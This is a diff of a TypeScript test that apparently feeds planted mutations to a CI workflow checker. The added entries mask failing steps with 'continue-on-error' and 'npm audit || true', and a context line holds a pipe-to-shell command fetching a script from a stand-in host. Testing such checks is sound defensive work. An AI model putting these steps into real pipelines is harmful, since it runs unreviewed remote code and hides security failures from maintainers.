@@ -178,6 +178,8 @@ const PLANTED: readonly (readonly [from: string | RegExp, to: string, said: RegE
     (command) =>
       ['run: echo "$TOKEN"', `run: ${command}`, /^the job deploy may sign in: npm must not run the scripts/] as const,
   ),
+  ['- run: echo "$TITLE"', '- continue-on-error: true\n        run: echo', /hides/],
+  ['run: echo "$TOKEN"', 'run: npm audit || true', /hides/],
   ['run: echo "$TOKEN"', 'run: curl -sSf https://get.example | bash', /what is fetched/],
   ['runs-on: ubuntu-24.04', 'runs-on: self-hosted', /must run on ubuntu-24\.04/],
   [
